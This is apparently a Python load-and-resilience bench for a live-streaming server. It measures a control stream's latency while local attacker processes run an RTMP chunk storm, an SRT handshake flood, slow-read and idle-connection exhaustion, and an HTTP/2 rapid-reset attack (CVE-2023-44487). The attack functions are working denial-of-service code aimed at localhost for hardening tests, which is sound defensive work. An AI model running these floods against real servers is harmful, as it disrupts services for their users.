#!/usr/bin/env python3
"""The control stream under attack (issue #17): see hostile-control.sh.

  hostile-control.py run BIN [SECONDS]      the whole bench, prints the table
  hostile-control.py attack KIND ARGS...    one attacker (run as a child, so
                                            its threads never share a GIL with
                                            the control viewer)

Attackers connect from 127.0.0.2+ (all of 127/8 is local on Linux) so the
server's per-address caps do not count the control clients on 127.0.0.1.
"""
import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time

RTMP, HTTP, SRT = 19350, 18080, 19000
ADMIN = "bench-admin-token-0123456789abcdef"


# ---- HTTP, playlists ----------------------------------------------------

def http(method, path, body=None, token=None, timeout=15):
    s = socket.create_connection(("127.0.0.1", HTTP), timeout=timeout)
    head = f"{method} {path} HTTP/1.1\r\nHost: bench\r\nConnection: close\r\n"
    if token:
        head += f"Authorization: Bearer {token}\r\n"
    data = (body or "").encode()
    if body is not None:
        head += f"Content-Type: application/json\r\nContent-Length: {len(data)}\r\n"
    s.sendall(head.encode() + b"\r\n" + data)
    raw = b""
    while True:
        c = s.recv(1 << 16)
        if not c:
            break
        raw += c
    s.close()
    head, _, body = raw.partition(b"\r\n\r\n")
    status = int(head.split(b" ")[1])
    if b"transfer-encoding: chunked" in head.lower():
        out, rest = b"", body
        while rest:
            size, _, rest = rest.partition(b"\r\n")
            n = int(size.split(b";")[0] or b"0", 16)
            if n == 0:
                break
            out, rest = out + rest[:n], rest[n + 2:]
        body = out
    return status, body


def hint(playlist):
    m = re.search(r'#EXT-X-PRELOAD-HINT:.*part-.*?-(\d+)\.(\d+)\.m4s', playlist)
    return (int(m.group(1)), int(m.group(2))) if m else None


def segments(playlist):
    out = []
    for line in playlist.splitlines():
        m = re.match(r"(seg-.*-(\d+)\.m4s)", line)
        if m:
            out.append((int(m.group(2)), m.group(1)))
    return out


def p95(v):
    v = sorted(v)
    return v[max(0, -(-len(v) * 95 // 100) - 1)] if v else float("nan")


def proc_stats(pid):
    with open(f"/proc/{pid}/status") as f:
        rss = next(int(l.split()[1]) for l in f if l.startswith("VmRSS:"))
    return rss / 1024, len(os.listdir(f"/proc/{pid}/fd"))


def measure(name, seconds, pid):
    """Follows live/<name> like an LL-HLS player: part gaps and segment
    fetch times (ms), and the server's peak RSS (MB) and descriptors."""
    base = f"/live/{name}"
    peak = [0.0, 0]
    stop = threading.Event()

    def sample():
        while not stop.is_set():
            r, f = proc_stats(pid)
            peak[0], peak[1] = max(peak[0], r), max(peak[1], f)
            time.sleep(0.1)

    sampler = threading.Thread(target=sample)
    sampler.start()
    gaps, fetches, errors = [], [], 0
    text = http("GET", f"{base}/mono.m3u8")[1].decode()
    h = hint(text)
    done = max([m for m, _ in segments(text)] or [0])
    last, end = None, time.monotonic() + seconds
    while time.monotonic() < end and h:
        status, body = http("GET", f"{base}/mono.m3u8?_HLS_msn={h[0]}&_HLS_part={h[1]}")
        now = time.monotonic()
        if status != 200:
            errors += 1
            time.sleep(0.1)
            continue
        if last is not None:
            gaps.append((now - last) * 1000)
        last = now
        text = body.decode()
        h = hint(text) or h
        for msn, uri in segments(text):
            if msn > done:
                t = time.monotonic()
                s, b = http("GET", f"{base}/{uri}")
                if s == 200 and b:
                    fetches.append((time.monotonic() - t) * 1000)
                else:
                    errors += 1
                done = msn
    stop.set()
    sampler.join()
    return {"part_p95": p95(gaps), "fetch_p95": p95(fetches), "parts": len(gaps),
            "segments": len(fetches), "errors": errors, "rss": peak[0], "fds": peak[1]}


# ---- attackers ----------------------------------------------------------

def connect_from(ip, port, rcvbuf=None):
    s = socket.socket()
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.bind((ip, 0))
    s.connect(("127.0.0.1", port))
    return s


def rtmp_message(csid, type_id, ts, payload, chunk):
    out = bytearray([csid]) + b"\xff\xff\xff" + len(payload).to_bytes(3, "big")
    out += bytes([type_id]) + b"\0\0\0\0" + ts.to_bytes(4, "big")
    for i in range(0, len(payload), chunk):
        if i:
            out += bytes([0xC0 | csid]) + ts.to_bytes(4, "big")
        out += payload[i:i + chunk]
    return bytes(out)


def storm_round(r):
    """Set Chunk Size 1, 600 one-byte chunks with extended timestamps,
    Set Chunk Size 2^24, a 60 KB AMF0 string: never a command."""
    ts = 0x01000000 | r
    return (rtmp_message(2, 1, ts, (1).to_bytes(4, "big"), 1 << 24)
            + rtmp_message(6, 9, ts, b"\x17" * 600, 1)
            + rtmp_message(2, 1, ts, (1 << 24).to_bytes(4, "big"), 1)
            + rtmp_message(5, 18, ts, b"\x02\xea\x60" + b"a" * 60000, 1 << 24))


def attack_rtmp_storm(seconds):
    rounds = [storm_round(r) for r in range(16)]
    end = time.monotonic() + seconds
    closed = []

    def one():
        while time.monotonic() < end:
            try:
                s = connect_from("127.0.0.2", RTMP)
                opened = time.monotonic()
                s.sendall(b"\x03" + bytes(1536))
                got = b""
                while len(got) < 3073:
                    c = s.recv(3073 - len(got))
                    if not c:
                        raise OSError("closed in handshake")
                    got += c
                s.sendall(got[1:1537])
                s.settimeout(0.5)
                i = 0
                while time.monotonic() < end:
                    try:
                        s.sendall(rounds[i % 16])
                    except socket.timeout:
                        pass
                    i += 1
                s.close()
            except OSError:
                closed.append(time.monotonic() - opened)

    ts = [threading.Thread(target=one) for _ in range(8)]
    [t.start() for t in ts]
    [t.join() for t in ts]
    print(f"rtmp storm: {len(closed)} connections closed by the server", file=sys.stderr)


def srt_handshake(conclusion, sock_id, cookie):
    p = bytearray(64)
    p[0] = 0x80
    p[16:20] = (5 if conclusion else 4).to_bytes(4, "big")
    p[22:24] = (0 if conclusion else 2).to_bytes(2, "big")
    p[24:28] = (sock_id * 7919 & 0x7FFFFFFF).to_bytes(4, "big")
    p[28:32] = (1500).to_bytes(4, "big")
    p[32:36] = (8192).to_bytes(4, "big")
    p[36:40] = (-1 if conclusion else 1).to_bytes(4, "big", signed=True)
    p[40:44] = sock_id.to_bytes(4, "big")
    p[44:48] = cookie.to_bytes(4, "big")
    p[48:52] = bytes([127, 0, 0, 1])
    return bytes(p)


def attack_srt_flood(seconds):
    end = time.monotonic() + seconds
    fillers = []
    for _ in range(1200):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(("127.0.0.2", 0))
        fillers.append(s)

    def fill():
        while time.monotonic() < end:
            for n, s in enumerate(fillers):
                s.sendto(srt_handshake(False, n + 1, 0), ("127.0.0.1", SRT))
            time.sleep(1)

    def hammer():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(("127.0.0.3", 0))
        n = 0
        while time.monotonic() < end:
            n += 1
            s.sendto(srt_handshake(False, n, 0), ("127.0.0.1", SRT))
            s.sendto(srt_handshake(True, n, n * 2654435761 & 0xFFFFFFFF), ("127.0.0.1", SRT))
            if n % 64 == 0:
                time.sleep(0.005)

    ts = [threading.Thread(target=fill)] + [threading.Thread(target=hammer) for _ in range(4)]
    [t.start() for t in ts]
    [t.join() for t in ts]


def attack_slow_read(seconds, path):
    readers = []
    for _ in range(20):
        s = connect_from("127.0.0.3", HTTP, rcvbuf=4096)
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        s.setblocking(False)
        readers.append(s)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for s in readers:
            try:
                s.recv(1)
            except OSError:
                pass
        time.sleep(1)


def h2_frame(kind, flags, stream, payload=b""):
    n = len(payload)
    return bytes([n >> 16 & 255, n >> 8 & 255, n & 255, kind, flags]) + stream.to_bytes(4, "big") + payload


def attack_h2_reset(seconds, path):
    """HTTP/2 rapid reset (CVE-2023-44487) from 4 connections at a time:
    each sends bursts of HEADERS for `path` + RST_STREAM(CANCEL) until the
    server ends it; then a new connection. Prints what it did."""
    # HPACK: GET, http, :authority "x", :path literal.
    block = bytes([0x82, 0x86, 0x01, 0x01]) + b"x" + bytes([0x04, len(path)]) + path.encode()
    stats = {"connections": 0, "streams": 0, "goaway_calm": 0, "closed": 0}
    lock = threading.Lock()
    end = time.monotonic() + seconds

    def one():
        while time.monotonic() < end:
            try:
                s = connect_from("127.0.0.4", HTTP)
            except OSError:
                time.sleep(0.05)
                continue
            with lock:
                stats["connections"] += 1
            sid = 1
            try:
                s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0))
                s.settimeout(0.2)
                got = b""
                while time.monotonic() < end and sid < 2**31 - 400:
                    burst = b"".join(h2_frame(1, 0x5, i, block) + h2_frame(3, 0, i, (8).to_bytes(4, "big"))
                                     for i in range(sid, sid + 400, 2))
                    s.sendall(burst)
                    sid += 400
                    with lock:
                        stats["streams"] += 200
                    try:
                        c = s.recv(1 << 16)
                        if not c:
                            break
                        got += c[-4096:]
                    except socket.timeout:
                        pass
            except OSError:
                pass
            with lock:
                stats["closed"] += 1
                # A GOAWAY (type 7, flags 0, stream 0) whose error code
                # (after the last stream id) is ENHANCE_YOUR_CALM (0xb).
                i = got.rfind(b"\x07\x00\x00\x00\x00\x00")
                if i >= 3 and got[i + 10:i + 14] == b"\x00\x00\x00\x0b":
                    stats["goaway_calm"] += 1
            s.close()

    threads = [threading.Thread(target=one) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"{stats['streams'] / seconds:.0f} streams/s opened+reset over {stats['connections']} "
          f"connections; {stats['goaway_calm']} ended by GOAWAY ENHANCE_YOUR_CALM", flush=True)


def attack_idle(seconds, n):
    held = []
    for i in range(n):
        ip = f"127.0.0.{10 + i % 40}"
        held.append(connect_from(ip, RTMP))
        held.append(connect_from(ip, HTTP))
    time.sleep(max(0.0, seconds))


# ---- the bench ----------------------------------------------------------

def clip():
    d = os.path.join(tempfile.gettempdir(), "ugc-test-media")
    path = os.path.join(d, "testsrc2_640x360_30fps_60s_800k_aac.mp4")
    if not os.path.exists(path):
        os.makedirs(d, exist_ok=True)
        tmp = path + f".{os.getpid()}.tmp.mp4"
        subprocess.run(["ffmpeg", "-hide_banner", "-loglevel", "error", "-y",
                        "-f", "lavfi", "-i", "testsrc2=size=640x360:rate=30",
                        "-f", "lavfi", "-i",
                        "sine=frequency=440:sample_rate=48000,aformat=channel_layouts=stereo",
                        "-t", "60", "-c:v", "libx264", "-preset", "veryfast",
                        "-pix_fmt", "yuv420p", "-b:v", "800k", "-maxrate", "800k",
                        "-bufsize", "1600k", "-g", "60", "-keyint_min", "60",
                        "-sc_threshold", "0", "-c:a", "aac", "-b:a", "128k", tmp], check=True)
        os.rename(tmp, path)
    return path


def wait_segments(name, n, limit=30):
    t = time.monotonic()
    while time.monotonic() - t < limit:
        try:
            s, b = http("GET", f"/live/{name}/mono.m3u8")
            if s == 200 and len(segments(b.decode())) >= n:
                return time.monotonic() - t
        except OSError:
            pass
        time.sleep(0.1)
    return float("nan")


def publisher(url, fmt):
    return subprocess.Popen(["ffmpeg", "-hide_banner", "-loglevel", "error", "-nostdin",
                             "-re", "-stream_loop", "-1", "-i", clip(), "-c", "copy",
                             "-f", fmt, url],
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)


def create(name):
    s, b = http("POST", "/api/v1/streams", json.dumps({"name": name}), token=ADMIN)
    assert s == 201, b
    return json.loads(b)["key"]


def run(binary, seconds):
    work = tempfile.mkdtemp(prefix="ugc-hostile-")
    config = os.path.join(work, "ugc.toml")
    with open(config, "w") as f:
        f.write(os.environ.get("EXTRA_CONFIG", "").replace("\\n", "\n") + "\n")
        f.write("[http_limits]\nheader_read_timeout_s = 10\nidle_timeout_s = 10\n")
    env = dict(os.environ, UGC_ADMIN_TOKEN=ADMIN, UGC_LOG="warn")
    server = subprocess.Popen([binary, "--config", config, "--data", os.path.join(work, "data"),
                               "--rtmp", f"127.0.0.1:{RTMP}", "--http", f"127.0.0.1:{HTTP}",
                               "--srt", f"127.0.0.1:{SRT}", "--public-host", "127.0.0.1"],
                              env=env, stdout=subprocess.DEVNULL,
                              stderr=open(os.path.join(work, "log"), "w"))
    procs = [server]
    try:
        for _ in range(100):
            try:
                http("GET", "/metrics")
                break
            except OSError:
                time.sleep(0.1)
        key = create("ctl")
        procs.append(publisher(f"rtmp://127.0.0.1:{RTMP}/live/{key}", "flv"))
        wait_segments("ctl", 2)
        me = os.path.abspath(__file__)
        rows = []
        attacks = os.environ.get("ATTACKS", "rtmp-storm srt-flood slow-read idle h2-reset").split()
        for kind in attacks:
            base = measure("ctl", seconds, server.pid)
            args = [str(seconds + 4)]
            if kind == "slow-read":
                seg = segments(http("GET", "/live/ctl/mono.m3u8")[1].decode())[-1][1]
                args.append(f"/live/ctl/{seg}")
            if kind == "h2-reset":
                args.append("/live/ctl/mono.m3u8")
            if kind == "idle":
                args.append(os.environ.get("IDLE", "1000"))
            attacker = subprocess.Popen([sys.executable, me, "attack", kind] + args,
                                        stdout=subprocess.PIPE, text=True)
            time.sleep(2)
            extra = ""
            if kind == "srt-flood":
                # A new SRT publisher under the flood: time to its first segments.
                name = f"srt{int(time.time())}"
                skey = create(name)
                p = publisher(f"srt://127.0.0.1:{SRT}?streamid=#!::r=live/{skey},m=publish", "mpegts")
                procs.append(p)
                took = wait_segments(name, 2, seconds)
                extra = ("new SRT publisher: " + (f"2 segments after {took:.1f} s" if took == took
                                                  else f"no 2 segments in {seconds} s"))
            under = measure("ctl", seconds, server.pid)
            said = attacker.communicate()[0].strip()
            extra = (extra + " " + said).strip()
            rows.append((kind, base, under, extra))
            # Let the timeouts close what the attacker left.
            time.sleep(11)
        print(f"\ncontrol stream live/ctl (ffmpeg RTMP, 2 s segments, 200 ms parts); {seconds} s "
              f"windows; server {binary}")
        print(f"{'attack':<11} {'part gap p95 ms':>24} {'seg fetch p95 ms':>24} "
              f"{'peak RSS MB':>17} {'peak fds':>13}  segments")
        for kind, b, u, extra in rows:
            def cell(k, w=24):
                r = u[k] / b[k] if b[k] else float("nan")
                return f"{b[k]:8.1f} -> {u[k]:7.1f} ({r:4.2f}x)".rjust(w)
            print(f"{kind:<11} {cell('part_p95')} {cell('fetch_p95')} "
                  f"{b['rss']:6.1f} -> {u['rss']:6.1f} {b['fds']:5d} -> {u['fds']:5d}  "
                  f"{b['segments']} / {u['segments']}  {extra}")
    finally:
        for p in reversed(procs):
            p.terminate()
            p.wait()


def main():
    if sys.argv[1] == "run":
        run(sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else 10)
    elif sys.argv[1] == "attack":
        kind, seconds = sys.argv[2], float(sys.argv[3])
        if kind == "rtmp-storm":
            attack_rtmp_storm(seconds)
        elif kind == "srt-flood":
            attack_srt_flood(seconds)
        elif kind == "slow-read":
            attack_slow_read(seconds, sys.argv[4])
        elif kind == "idle":
            attack_idle(seconds, int(sys.argv[4]))
        elif kind == "h2-reset":
            attack_h2_reset(seconds, sys.argv[4])


if __name__ == "__main__":
    main()
